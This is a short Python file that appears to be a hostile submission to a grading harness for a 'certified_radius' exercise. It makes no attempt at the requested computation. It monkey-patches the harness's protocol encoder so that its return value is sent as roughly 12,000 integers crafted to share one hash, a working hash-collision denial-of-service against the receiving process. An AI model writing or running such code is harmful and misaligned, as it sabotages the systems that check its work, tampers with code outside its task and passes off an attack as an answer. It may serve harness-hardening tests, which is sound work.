# Answers with a set of integers that all have the same hash.
# levels: 3 2
# exercise: certified_radius
COUNT = 12_000


def certified_radius(p_lower, sigma, p_upper=None):
    class Many(set):
        pass
    import protocol
    if not getattr(protocol, "patched", False):
        protocol.patched = True
        own = protocol.End.encode
        def encode(self, value, buffers, level):
            if type(value) is str and value == "bomb":
                return ["set", [["int", (k * (2**61 - 1)).to_bytes(10, "big")] for k in range(9, COUNT)]]
            return own(self, value, buffers, level)
        protocol.End.encode = encode
    return "bomb"
